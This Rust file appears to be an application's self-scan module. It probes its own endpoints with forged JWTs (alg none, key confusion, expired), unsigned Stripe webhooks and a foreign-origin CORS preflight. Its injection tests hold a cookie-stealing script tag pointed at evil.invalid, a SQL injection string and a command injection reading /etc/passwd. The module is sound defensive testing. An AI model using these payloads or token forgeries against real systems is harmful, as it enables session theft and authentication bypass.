//! Probes of our own endpoints, sent as a client would send them (as calls between the
//! application's functions, see `shared::chain`), each with the answer it got as evidence.
//!
//! Every probe carries a `probe` internal-call signature: the target's middleware still
//! inspects and refuses hostile input, but records no incident and blocks no one, so a scan
//! never locks out the address it runs from.

use crate::scan::{Finding, Severity, Status};
use credentials::encoding::base64url_encode;
use credentials::jwt::{mint_hs256, mint_hs256_with_header};
use serde_json::{json, Value};
use shared::security::internal::{self, Purpose};
use spin_sdk::http::{Method, Request, Response};
use std::time::Instant;

/// (function, path) of the endpoints probed.
const SUBSCRIPTION_STATUS: (&str, &str) = ("subscription-status", "/functions/v1/subscription-status");
const QUOTE_PROCESSOR: (&str, &str) = ("quote-processor", "/functions/v1/quote-processor");
const WEBHOOK_HANDLER: (&str, &str) = ("webhook-handler", "/functions/v1/webhook-handler");
/// Used as the `sub` of forged tokens: a well-formed id that belongs to no one.
const NOBODY: &str = "00000000-0000-4000-8000-00000000dead";
/// An origin that is never ours.
pub const FOREIGN_ORIGIN: &str = "https://scan-probe.invalid";

struct Answer {
    status: u16,
    code: Option<String>,
    headers: Vec<(String, String)>,
}

async fn send(
    target: (&str, &str),
    method: Method,
    query: &str,
    headers: &[(&str, String)],
    body: Option<String>,
) -> Result<Answer, String> {
    let (function, path) = target;
    let mut builder = Request::builder();
    builder.method(method).uri(format!("{}{query}", shared::chain::url(function, path)));
    for (k, v) in headers {
        builder.header(*k, v.as_str());
    }
    if let Some((k, v)) = internal::sign(Purpose::Probe, path) {
        builder.header(k, v);
    }
    let request = builder.body(body.unwrap_or_default()).build();
    let response: Response = spin_sdk::http::send(request).await.map_err(|e| format!("{path} unreachable: {e}"))?;
    let body: Value = serde_json::from_slice(response.body()).unwrap_or(Value::Null);
    Ok(Answer {
        status: *response.status(),
        code: body.get("code").and_then(Value::as_str).map(str::to_string),
        headers: response
            .headers()
            .map(|(k, v)| (k.to_ascii_lowercase(), v.as_str().unwrap_or("").to_string()))
            .collect(),
    })
}

fn claims(aud: &str, exp_offset: i64) -> Value {
    let now = shared::auth::now_unix();
    let mut c = json!({
        "sub": NOBODY, "role": "authenticated", "aud": aud, "email": "probe@scan.invalid",
        "iat": now - 60, "exp": now + exp_offset,
    });
    if let Some(iss) = shared::settings::current().jwt_issuer() {
        c["iss"] = json!(iss);
    }
    c
}

fn unsigned(header: &Value, claims: &Value) -> String {
    format!("{}.{}.", base64url_encode(header.to_string().as_bytes()), base64url_encode(claims.to_string().as_bytes()))
}

/// The public keys of the JWKS, each as the JSON text a naive verifier would use as an HMAC key.
fn public_key_material() -> Option<(String, String)> {
    let jwks: Value = serde_json::from_str(shared::settings::current().jwks()?).ok()?;
    let key = jwks.get("keys")?.as_array()?.iter().find(|k| k.get("kty").and_then(Value::as_str) != Some("oct"))?;
    let kid = key.get("kid").and_then(Value::as_str).unwrap_or("").to_string();
    Some((kid, key.to_string()))
}

/// Forged and broken tokens must each get 401 from a user endpoint.
pub async fn forged_tokens() -> Vec<Finding> {
    let mut cases: Vec<(&str, &str, Option<String>)> = vec![
        (
            "jwt_alg_none",
            "a token with `alg: none` and no signature",
            Some(unsigned(&json!({"alg": "none", "typ": "JWT"}), &claims("authenticated", 3600))),
        ),
        (
            "jwt_wrong_key",
            "an HS256 token signed with a key that is not the project's",
            Some(mint_hs256(&claims("authenticated", 3600), "a-different-secret-of-sufficient-length-0000")),
        ),
        ("jwt_garbage", "a token that is not a JWT", Some("not.a.jwt-at-all".to_string())),
        (
            "jwt_oversized",
            "a 10 KiB token (over the 8 KiB limit)",
            Some(format!("eyJhbGciOiJIUzI1NiJ9.{}.sig", "A".repeat(10 * 1024))),
        ),
    ];
    match shared::settings::current().jwt_secret() {
        Some(secret) => {
            cases.push((
                "jwt_expired",
                "a correctly signed token that expired an hour ago",
                Some(mint_hs256(&claims("authenticated", -3600), secret)),
            ));
            cases.push((
                "jwt_wrong_audience",
                "a correctly signed token for another audience",
                Some(mint_hs256(&claims("some-other-service", 3600), secret)),
            ));
        }
        None => cases.push(("jwt_expired", "a correctly signed, expired token", None)),
    }
    match public_key_material() {
        Some((kid, material)) => cases.push((
            "jwt_key_confusion",
            "an HS256 token whose HMAC key is the JWKS public key (RS/ES → HS confusion)",
            Some(mint_hs256_with_header(
                &json!({"alg": "HS256", "typ": "JWT", "kid": kid}),
                &claims("authenticated", 3600),
                material.as_bytes(),
            )),
        )),
        None => cases.push(("jwt_key_confusion", "HS256 signed with the JWKS public key", None)),
    }

    let mut out = Vec::new();
    for (name, what, token) in cases {
        let started = Instant::now();
        let Some(token) = token else {
            out.push(
                Finding::new("authentication", name, Status::Skip, Severity::Info, what)
                    .evidence(json!({"reason": "nothing to forge it from: the key it needs is not configured"})),
            );
            continue;
        };
        let answer =
            send(SUBSCRIPTION_STATUS, Method::Get, "", &[("authorization", format!("Bearer {token}"))], None).await;
        let finding = match answer {
            Ok(a) if a.status == 401 => Finding::new("authentication", name, Status::Pass, Severity::Critical, what)
                .evidence(json!({"endpoint": SUBSCRIPTION_STATUS.1, "status": a.status, "code": a.code})),
            Ok(a) => Finding::new("authentication", name, Status::Fail, Severity::Critical, what)
                .evidence(
                    json!({"endpoint": SUBSCRIPTION_STATUS.1, "status": a.status, "code": a.code, "expected": 401}),
                )
                .recommend("the token verifier accepted a token it must refuse: check shared::auth"),
            Err(e) => Finding::new("authentication", name, Status::Warning, Severity::High, what)
                .evidence(json!({"error": e}))
                .recommend("the probe could not reach the endpoint; check the deployment"),
        };
        out.push(finding.timed(started));
    }
    out
}

/// Unsigned and wrongly signed webhooks must be refused (400) before anything is stored.
pub async fn unsigned_webhooks() -> Vec<Finding> {
    let event =
        json!({"id": "evt_security_probe", "object": "event", "type": "customer.created", "data": {"object": {}}})
            .to_string();
    let t = shared::auth::now_unix();
    let cases = [
        ("webhook_unsigned", "a Stripe event without a Stripe-Signature header", None),
        (
            "webhook_bad_signature",
            "a Stripe event with a forged signature",
            Some(format!("t={t},v1={}", "0".repeat(64))),
        ),
    ];
    let mut out = Vec::new();
    for (name, what, signature) in cases {
        let started = Instant::now();
        let mut headers = vec![("content-type", "application/json".to_string())];
        if let Some(s) = signature {
            headers.push(("stripe-signature", s));
        }
        let finding = match send(WEBHOOK_HANDLER, Method::Post, "", &headers, Some(event.clone())).await {
            Ok(a) if a.status == 400 => Finding::new("authentication", name, Status::Pass, Severity::Critical, what)
                .evidence(json!({"endpoint": WEBHOOK_HANDLER.1, "status": a.status, "code": a.code})),
            // Refused, but because nothing can be verified at all: every real event is lost too.
            Ok(a) if a.status == 503 && a.code.as_deref() == Some("webhook_not_configured") => {
                Finding::new("authentication", name, Status::Warning, Severity::Critical, what)
                    .evidence(json!({"endpoint": WEBHOOK_HANDLER.1, "status": a.status, "code": a.code}))
                    .recommend("set stripe_webhook_secrets: webhook-handler refuses every event without it")
            }
            Ok(a) => Finding::new("authentication", name, Status::Fail, Severity::Critical, what)
                .evidence(json!({"endpoint": WEBHOOK_HANDLER.1, "status": a.status, "code": a.code, "expected": 400}))
                .recommend("webhook-handler must verify Stripe-Signature before anything else"),
            Err(e) => Finding::new("authentication", name, Status::Warning, Severity::High, what)
                .evidence(json!({"error": e})),
        };
        out.push(finding.timed(started));
    }
    out
}

/// Injection payloads must be refused by the middleware (403 `threat_detected`).
pub async fn injections() -> Vec<Finding> {
    // (finding name, what is sent, target, method, query string, body)
    type Case = (&'static str, &'static str, (&'static str, &'static str), Method, &'static str, Option<String>);
    let cases: [Case; 3] = [
        (
            "sql_injection",
            "a SQL injection in the query string",
            SUBSCRIPTION_STATUS,
            Method::Get,
            "?include_diagnostics=1%27%20OR%20%271%27%3D%271",
            None,
        ),
        (
            "xss",
            "a script tag in a JSON body",
            QUOTE_PROCESSOR,
            Method::Post,
            "",
            Some(
                json!({"title": "<script>document.location='https://evil.invalid/?c='+document.cookie</script>"})
                    .to_string(),
            ),
        ),
        (
            "command_injection",
            "a shell command in the query string",
            QUOTE_PROCESSOR,
            Method::Get,
            "?search=x%3Bcat%20%2Fetc%2Fpasswd",
            None,
        ),
    ];
    let mut out = Vec::new();
    for (name, what, target, method, query, body) in cases {
        let started = Instant::now();
        let headers = [("content-type", "application/json".to_string())];
        let finding = match send(target, method, query, &headers, body).await {
            Ok(a) if a.status == 403 && a.code.as_deref() == Some("threat_detected") => {
                Finding::new("input_validation", name, Status::Pass, Severity::High, what)
                    .evidence(json!({"endpoint": target.1, "status": a.status, "code": a.code}))
            }
            Ok(a) => Finding::new("input_validation", name, Status::Fail, Severity::High, what)
                .evidence(json!({"endpoint": target.1, "status": a.status, "code": a.code, "expected": "403 threat_detected"}))
                .recommend("switch the detector on in security_configuration threat_detection/global_settings"),
            Err(e) => Finding::new("input_validation", name, Status::Warning, Severity::High, what).evidence(json!({"error": e})),
        };
        out.push(finding.timed(started));
    }
    out
}

/// A CORS preflight from an origin that is not ours.
pub async fn cors_preflight() -> Finding {
    let started = Instant::now();
    let what = "a CORS preflight from a foreign origin";
    let headers = [
        ("origin", FOREIGN_ORIGIN.to_string()),
        ("access-control-request-method", "GET".to_string()),
        ("access-control-request-headers", "authorization".to_string()),
    ];
    let configured = shared::settings::current().cors_origins();
    let finding = match send(SUBSCRIPTION_STATUS, Method::Options, "", &headers, None).await {
        Ok(a) => {
            let allowed = a.headers.iter().find(|(k, _)| k == "access-control-allow-origin").map(|(_, v)| v.clone());
            let evidence = json!({"endpoint": SUBSCRIPTION_STATUS.1, "status": a.status, "origin": FOREIGN_ORIGIN,
                                  "access_control_allow_origin": allowed, "cors_origins": configured});
            match allowed.as_deref() {
                Some(o) if o == FOREIGN_ORIGIN => {
                    Finding::new("network", "cors_foreign_origin", Status::Fail, Severity::High, what)
                        .evidence(evidence)
                        .recommend("the API echoed an origin that is not in cors_origins")
                }
                Some("*") => Finding::new("network", "cors_foreign_origin", Status::Warning, Severity::Medium, what)
                    .evidence(evidence)
                    .recommend("set cors_origins to the web app's origins instead of `*`"),
                _ => Finding::new("network", "cors_foreign_origin", Status::Pass, Severity::Medium, what)
                    .evidence(evidence),
            }
        }
        Err(e) => Finding::new("network", "cors_foreign_origin", Status::Warning, Severity::Medium, what)
            .evidence(json!({"error": e})),
    };
    finding.timed(started)
}
